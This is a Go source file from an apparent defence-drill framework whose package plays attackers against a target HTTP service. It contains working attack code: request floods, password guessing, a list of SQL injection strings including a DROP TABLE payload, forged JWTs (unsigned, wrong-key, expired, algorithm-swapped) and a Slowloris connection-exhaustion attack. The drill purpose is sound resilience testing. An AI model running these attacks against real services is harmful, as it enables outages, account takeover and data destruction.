// Package attack plays the attackers of a defence drill: floods, slow requests, guesses, forgeries.
package attack

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/livedrill/livedrill/injectors"
	"github.com/livedrill/livedrill/injectors/clients"
	"github.com/livedrill/livedrill/target"
	"github.com/livedrill/livedrill/target/unit"
)

// Requests attacks an HTTP service with requests of one sort.
type Requests struct {
	clients.Repeated
	Sort string `json:"-"` // flood (rooms), scrape (room after room), absent (rooms that do not exist), login (passwords), forge (tokens), inject (SQL), oversize (fields, bodies, headers, paths)
}

// sorts are the requests of each attack, by the number of the attempt. A gift that is accepted, a log-in that works: those are what
// they are after. key is that of the tokens, for an old one.
var sorts = map[string]func(n uint64, key string) (method, path, token string, body any){
	"flood": func(n uint64, _ string) (string, string, string, any) {
		return "GET", fmt.Sprintf("/v1/rooms/%d", n%100), "", nil
	},
	"scrape": func(n uint64, _ string) (string, string, string, any) {
		return "GET", fmt.Sprintf("/v1/rooms/%d", n), "", nil
	},
	"absent": func(n uint64, _ string) (string, string, string, any) {
		return "GET", fmt.Sprintf("/v1/rooms/%d", 1_000_000+n), "", nil
	},
	"login": func(n uint64, _ string) (string, string, string, any) {
		return "POST", "/v1/login", "", map[string]any{"name": fmt.Sprintf("user%d", n%200), "password": fmt.Sprintf("%06d", n)}
	},
	"forge": func(n uint64, key string) (string, string, string, any) {
		return "POST", "/v1/gifts", forgeries[n%uint64(len(forgeries))](key), map[string]any{"key": fmt.Sprintf("forged-%d-%d", time.Now().UnixNano(), n), "room": 1, "amount": 1}
	},
	"inject": func(n uint64, _ string) (string, string, string, any) {
		bad := injections[n%uint64(len(injections))]
		return "POST", "/v1/login", "", map[string]any{"name": bad, "password": bad}
	},
	"oversize": func(n uint64, _ string) (string, string, string, any) {
		large := oversizes()[n%uint64(len(oversizes()))]
		return large.method, large.path, large.token, large.body
	},
}

// injections are what is typed into a field where a statement is put together from strings.
var injections = []string{"' OR '1'='1", "user1'-- ", "user1' OR 1=1#", "' UNION SELECT 1, 2-- ", "'; DROP TABLE users; -- ", "admin'/*", `" OR ""="`,
	"user1' AND SLEEP(5)-- ", "%27%20OR%201=1", "user1\x00", "1' OR '1'='1' LIMIT 1-- "}

// forgeries are tokens that no service may take (RFC 8725): unsigned, signed with another key, expired and else as good as any, with another
// algorithm's name, cut off.
var forgeries = []func(key string) string{
	func(string) string { return token("none", time.Hour, "") },
	func(string) string { return token("None", time.Hour, "") },
	func(string) string { return token("HS256", time.Hour, "secret") },
	func(key string) string { return token("HS256", -time.Hour, key) },
	func(string) string { return token("RS256", time.Hour, "public") },
	func(string) string { return "a.b.c" },
}

func token(algorithm string, valid time.Duration, key string) string {
	head := fmt.Sprintf(`{"alg":%q,"typ":"JWT"}`, algorithm)
	claims := fmt.Sprintf(`{"sub":"1","exp":%d}`, time.Now().Add(valid).Unix())
	signed := base64.RawURLEncoding.EncodeToString([]byte(head)) + "." + base64.RawURLEncoding.EncodeToString([]byte(claims))
	if strings.EqualFold(algorithm, "none") {
		return signed + "."
	}
	mac := hmac.New(sha256.New, []byte(key))
	mac.Write([]byte(signed))
	return signed + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
}

// Validate finds settings that cannot work.
func (f *Requests) Validate() error {
	err := f.Repeated.Validate()
	if _, ok := sorts[f.Sort]; !ok {
		var names []string
		for name := range sorts {
			names = append(names, name)
		}
		slices.Sort(names)
		err = errors.Join(err, fmt.Errorf("sort: %q is none of %s", f.Sort, strings.Join(names, ", ")))
	}
	return err
}

// Check is part of injectors.Fault.
func (f *Requests) Check(_ context.Context, on target.Component) error {
	return clients.Free(on, "http")
}

// Inject is part of injectors.Fault.
func (f *Requests) Inject(ctx context.Context, on target.Component) error {
	addr, err := clients.InRange(on, "http")
	if err != nil {
		return err
	}
	client := &http.Client{Transport: &http.Transport{DialContext: clients.Dial(on), MaxIdleConnsPerHost: f.Clients}}
	request, key := sorts[f.Sort], ""
	if on.Handles.Tokens != nil {
		key = on.Handles.Tokens.Key
	}
	return f.Run(ctx, on, func(ctx context.Context, n uint64) clients.Answer {
		method, path, token, body := request(n, key)
		text, ok := body.(json.RawMessage) // as it is
		if !ok {
			var err error
			if text, err = json.Marshal(body); err != nil {
				return clients.Failed
			}
		}
		req, err := http.NewRequestWithContext(ctx, method, "http://"+addr+path, strings.NewReader(string(text)))
		if err != nil {
			return clients.Failed
		}
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := client.Do(req)
		if err != nil {
			return clients.Failed
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20)) // for the connection's sake
		switch {
		case resp.StatusCode < 300:
			return clients.Got
		case resp.StatusCode < 500 || resp.StatusCode == http.StatusServiceUnavailable:
			return clients.Turned
		}
		return clients.Failed
	}, client.CloseIdleConnections)
}

// Slowloris opens connections and sends a request's header so slowly that it never ends: each holds a place in the server.
type Slowloris struct {
	Connections int           `json:"connections" help:"that are held"`
	Every       unit.Duration `json:"every" help:"time between two lines of a header"`
}

// Validate finds settings that cannot work.
func (f *Slowloris) Validate() error {
	var errs []error
	if f.Connections < 10 || f.Connections > 10_000 {
		errs = append(errs, fmt.Errorf("connections: %d is not between 10 and 10000", f.Connections))
	}
	if d := time.Duration(f.Every); d < 100*time.Millisecond || d > time.Minute {
		errs = append(errs, fmt.Errorf("every: %s is not between 100ms and 1m", f.Every))
	}
	return errors.Join(errs...)
}

// BackEnd is part of injectors.BackEnded.
func (*Slowloris) BackEnd() string { return "clients" }

// Check is part of injectors.Fault.
func (*Slowloris) Check(_ context.Context, on target.Component) error {
	return clients.Free(on, "http")
}

// Save is part of injectors.Fault: an attack changes no setting.
func (*Slowloris) Save(context.Context, target.Component) (injectors.Original, error) {
	return injectors.Keep(struct{}{})
}

// Inject is part of injectors.Fault. A connection that the server closes is opened again with the next line.
func (f *Slowloris) Inject(ctx context.Context, on target.Component) error {
	addr, err := clients.InRange(on, "http")
	if err != nil {
		return err
	}
	dial := clients.Dial(on)
	open := func(ctx context.Context) net.Conn {
		conn, err := dial(ctx, "tcp4", addr)
		if err != nil {
			return nil
		}
		_ = conn.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: "+addr+"\r\n"); err != nil {
			_ = conn.Close() // the server has closed it
			return nil
		}
		return conn
	}
	conns := make([]net.Conn, f.Connections)
	for i := range conns {
		if conns[i] = open(ctx); conns[i] == nil && i == 0 {
			return fmt.Errorf("%s takes no connection", addr)
		}
	}
	return injectors.Begin(ctx, clients.Name(on), func(ctx context.Context) {
		defer func() {
			for _, c := range conns {
				if c != nil {
					_ = c.Close()
				}
			}
		}()
		for n := 0; target.Wait(ctx, time.Duration(f.Every)); n++ {
			for i, c := range conns {
				if c != nil {
					_ = c.SetWriteDeadline(time.Now().Add(time.Second))
					if _, err := fmt.Fprintf(c, "X-%d: 1\r\n", n); err == nil {
						continue
					}
					_ = c.Close()
				}
				conns[i] = open(ctx)
			}
		}
	})
}

// Effect counts the connections that the component's own kernel has from the attackers' address. It bites with half of them: a
// server with a time-out for headers defends itself, and that shows.
func (f *Slowloris) Effect(_ context.Context, on target.Component) (injectors.Measured, error) {
	n, err := clients.Connections(on)
	return injectors.Measured{N: uint64(f.Connections), Asked: map[string]float64{"connections": float64(f.Connections)}, Is: map[string]float64{"connections": float64(n)},
		Bites: 2*n >= f.Connections, Clean: n == 0,
		Reason: fmt.Sprintf("it has %d connections from the attackers", n)}, err
}

// Restore is part of injectors.Fault.
func (*Slowloris) Restore(_ context.Context, on target.Component, _ injectors.Original) error {
	injectors.End(clients.Name(on))
	return nil
}
